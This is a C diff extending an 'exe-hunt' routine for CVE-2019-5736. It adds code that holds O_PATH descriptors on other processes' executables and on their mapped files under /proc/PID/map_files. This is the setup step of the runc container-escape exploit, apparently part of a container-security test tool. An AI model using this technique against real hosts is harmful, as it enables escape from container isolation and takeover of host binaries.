@@ -167,6 +167,36 @@ static int is_ours(const struct stat *st, const struct stat *own, int nown) {
   return 0;
 }
 
+static int is_held(const struct stat *st, const struct held *held, int nheld) {
+  for (int i = 0; i < nheld; i++)
+    if (held[i].dev == st->st_dev && held[i].ino == st->st_ino) return 1;
+  return 0;
+}
+
+/* Hold an O_PATH fd on each new file that /proc/PID/map_files opens for us
+ * (a process's mapped files: its code, where its exe is only a stub). */
+static int hold_mapped_files(pid_t pid, struct held *held, int nheld, int room, const struct stat *own, int nown) {
+  char dir[64];
+  snprintf(dir, sizeof(dir), "/proc/%d/map_files", pid);
+  DIR *d = opendir(dir);
+  if (!d) return nheld;
+  struct dirent *de;
+  while ((de = readdir(d)) && nheld < room) {
+    if (de->d_name[0] == '.') continue;
+    int fd = openat(dirfd(d), de->d_name, O_PATH | O_CLOEXEC);
+    struct stat st;
+    if (fd < 0) continue;
+    if (fstat(fd, &st) < 0 || is_ours(&st, own, nown) || is_held(&st, held, nheld)) {
+      close(fd);
+      continue;
+    }
+    held[nheld++] = (struct held){.fd = fd, .pid = pid, .dev = st.st_dev, .ino = st.st_ino};
+    printf("held %d (mapped %s)\n", pid, de->d_name);
+  }
+  closedir(d);
+  return nheld;
+}
+
 /* exe-hunt FIFO SECONDS: CVE-2019-5736.  Take an O_PATH fd on the
  * executable of every other process that shows up (not one of the
  * container's own files), open FIFO for reading once something is held
@@ -195,17 +225,16 @@ static int exe_hunt(const char *fifo, double seconds) {
       char path[64];
       snprintf(path, sizeof(path), "/proc/%d/exe", pid);
       int fd = open(path, O_PATH | O_CLOEXEC);
-      if (fd < 0) continue;
       struct stat st;
-      int dup = fstat(fd, &st) < 0 || is_ours(&st, own, nown);
-      for (int i = 0; i < nheld && !dup; i++)
-        if (held[i].dev == st.st_dev && held[i].ino == st.st_ino) dup = 1;
-      if (dup) {
+      int mine = fd >= 0 && fstat(fd, &st) == 0 && is_ours(&st, own, nown);
+      if (fd >= 0 && !mine && !is_held(&st, held, nheld)) {
+        held[nheld++] = (struct held){.fd = fd, .pid = pid, .dev = st.st_dev, .ino = st.st_ino};
+        printf("held %d\n", pid);
+      } else if (fd >= 0) {
         close(fd);
-        continue;
       }
-      held[nheld++] = (struct held){.fd = fd, .pid = pid, .dev = st.st_dev, .ino = st.st_ino};
-      printf("held %d\n", pid);
+      /* not the container's own program: what the process maps too */
+      if (!mine) nheld = hold_mapped_files(pid, held, nheld, 64, own, nown);
     }
     closedir(d);
     if (nheld && fifo_fd < 0) fifo_fd = open(fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
